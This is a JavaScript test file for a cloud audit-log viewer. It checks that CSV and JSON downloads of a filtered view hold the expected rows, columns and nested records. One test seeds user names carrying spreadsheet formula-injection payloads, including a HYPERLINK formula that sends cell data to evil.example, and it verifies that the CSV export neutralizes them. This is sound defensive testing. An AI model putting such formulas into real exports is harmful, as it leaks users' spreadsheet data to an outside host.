// Downloading the filtered view as CSV and JSON.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';

import {
  ARTIFACTS, suite, signIn, pickPreset, addFilter, waitForRows, rows, parseCsv, LAPTOP,
} from './harness.js';

const s = suite('downloads');

const COLUMNS = ['EventTime', 'Username', 'EventName', 'ResourceType', 'ResourceName', 'EventSource',
  'AccessKeyId', 'AwsRegion', 'ErrorCode', 'SourceIpAddress', 'ReadOnly', 'EventId'];

// Records whose user name a spreadsheet would run as a formula.
const RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd'];
const PROBES = RISKY.map((userName, i) => ({
  eventVersion: '1.08',
  userIdentity: {
    type: 'IAMUser', principalId: `AIDAPROBE000000000${i}`, accountId: '111122223333',
    arn: 'arn:aws:iam::111122223333:user/probe', accessKeyId: `AKIAPROBE0000000000${i}`, userName,
  },
  eventTime: `2021-05-05T05:05:0${i}Z`,
  eventSource: 'sts.amazonaws.com',
  eventName: 'GetCallerIdentity',
  awsRegion: 'eu-central-1',
  sourceIPAddress: '198.51.100.7',
  userAgent: 'aws-cli/2.15.0',
  requestParameters: null,
  responseElements: null,
  requestID: `req-probe-${i}`,
  eventID: `d0d0d0d0-0000-4000-8000-00000000000${i}`,
  readOnly: true,
  eventType: 'AwsApiCall',
  managementEvent: true,
  recipientAccountId: '111122223333',
  eventCategory: 'Management',
}));

/** Clicks a download button; returns the saved file's path and name. */
async function download(page, testid, saveAs) {
  const [dl] = await Promise.all([
    page.waitForEvent('download'),
    page.click(`[data-testid=${testid}]`),
  ]);
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  const file = path.join(ARTIFACTS, saveAs);
  await dl.saveAs(file);
  assert.equal(await dl.failure(), null, `the ${testid} download failed`);
  return { file, suggested: dl.suggestedFilename() };
}

/** A JSON download as a list of records: an array, {"Records": [...]}, or one a line. */
function records(text) {
  const trimmed = text.trim();
  try {
    const v = JSON.parse(trimmed);
    if (Array.isArray(v)) return v;
    if (v && Array.isArray(v.Records)) return v.Records;
    return [v];
  } catch {
    return trimmed.split('\n').filter((l) => l.trim()).map((l) => JSON.parse(l));
  }
}

function csvTable(text) {
  const table = parseCsv(text.replace(/^\uFEFF/, '')).filter((r) => !(r.length === 1 && r[0] === ''));
  const header = table[0].map((h) => h.replace(/\s+/g, ''));
  return { header, body: table.slice(1) };
}

// What a CSV header may call each column: its id or the label the table shows.
const ALIASES = {
  EventTime: ['eventtime', 'time'],
  Username: ['username', 'user'],
  EventName: ['eventname'],
  ResourceType: ['resourcetype'],
  ResourceName: ['resourcename'],
  EventSource: ['eventsource'],
  AccessKeyId: ['accesskeyid', 'awsaccesskey', 'awsaccesskeyid', 'accesskey'],
  AwsRegion: ['awsregion', 'region'],
  ErrorCode: ['errorcode'],
  SourceIpAddress: ['sourceipaddress', 'sourceip'],
  ReadOnly: ['readonly'],
  EventId: ['eventid'],
};

function columnIndex(header, id) {
  const norm = header.map((h) => h.toLowerCase().replace(/[^a-z]/g, ''));
  const i = norm.findIndex((h) => ALIASES[id].includes(h));
  assert.ok(i >= 0, `CSV header ${JSON.stringify(header)} has no ${id} column`);
  return i;
}

s.test('CSV and JSON of a filtered view hold its rows, columns and whole records', async () => {
  const page = await s.page(LAPTOP, { downloads: true });
  await signIn(page, s.cairn);
  await pickPreset(page, 'all');
  await addFilter(page, 'Username', 'dev-intern');
  await waitForRows(page, 4);
  const ids = await rows(page).evaluateAll((trs) => trs.map((tr) => tr.dataset.eventId));

  const csv = await download(page, 'download-csv', 'dev-intern.csv');
  assert.match(csv.suggested, /\.csv$/);
  const { header, body } = csvTable(fs.readFileSync(csv.file, 'utf8'));
  assert.equal(header.length, 12, `12 columns, got ${JSON.stringify(header)}`);
  for (const c of COLUMNS) columnIndex(header, c);
  assert.equal(body.length, 4, `4 rows, got ${body.length}`);
  for (const r of body) assert.equal(r.length, 12);
  const idCol = columnIndex(header, 'EventId');
  assert.deepEqual(body.map((r) => r[idCol]).sort(), [...ids].sort());
  const nameCol = columnIndex(header, 'EventName');
  assert.deepEqual(body.map((r) => r[nameCol]).sort(), ['ConsoleLogin', 'ConsoleLogin', 'ConsoleLogin', 'DeleteObject']);
  const userCol = columnIndex(header, 'Username');
  assert.ok(body.every((r) => r[userCol] === 'dev-intern'));
  const del = body.find((r) => r[nameCol] === 'DeleteObject');
  assert.equal(del[columnIndex(header, 'ResourceType')].includes('AWS::S3::Object'), true);
  assert.equal(del[columnIndex(header, 'EventSource')], 's3.amazonaws.com');
  assert.equal(del[columnIndex(header, 'AwsRegion')], 'eu-west-1');
  assert.equal(del[columnIndex(header, 'SourceIpAddress')], '192.0.2.77');
  assert.match(del[columnIndex(header, 'EventTime')], /2024-03-14[ T]10:22:05/);

  const json = await download(page, 'download-json', 'dev-intern.json');
  assert.match(json.suggested, /\.json$/);
  const recs = records(fs.readFileSync(json.file, 'utf8'));
  assert.equal(recs.length, 4);
  assert.deepEqual(recs.map((r) => r.eventID).sort(), [...ids].sort());
  const delRec = recs.find((r) => r.eventName === 'DeleteObject');
  // The whole record, nested members included.
  assert.equal(delRec.requestParameters.key, '2024/whiskers.jpg');
  assert.equal(delRec.tlsDetails.tlsVersion, 'TLSv1.3');
  assert.equal(delRec.additionalEventData.CipherSuite, 'TLS_AES_128_GCM_SHA256');
});

s.test('CSV cells that a spreadsheet would run as formulas are made safe', async () => {
  s.cairn.importRecords(PROBES);
  const page = await s.page(LAPTOP, { downloads: true });
  await signIn(page, s.cairn);
  await pickPreset(page, 'all');
  await addFilter(page, 'EventName', 'GetCallerIdentity');
  await waitForRows(page, 4);
  const csv = await download(page, 'download-csv', 'formulas.csv');
  const { header, body } = csvTable(fs.readFileSync(csv.file, 'utf8'));
  assert.equal(body.length, 4);
  const userCol = columnIndex(header, 'Username');
  assert.deepEqual(body.map((r) => r[userCol]).sort(), RISKY.map((u) => `'${u}`).sort());
  // Nothing else starts with a formula character.
  for (const r of body) for (const v of r) assert.ok(!/^[=+\-@]/.test(v), `unsafe cell ${JSON.stringify(v)}`);

  // JSON keeps the values as they are.
  const json = await download(page, 'download-json', 'formulas.json');
  const recs = records(fs.readFileSync(json.file, 'utf8'));
  assert.deepEqual(recs.map((r) => r.userIdentity.userName).sort(), [...RISKY].sort());
});
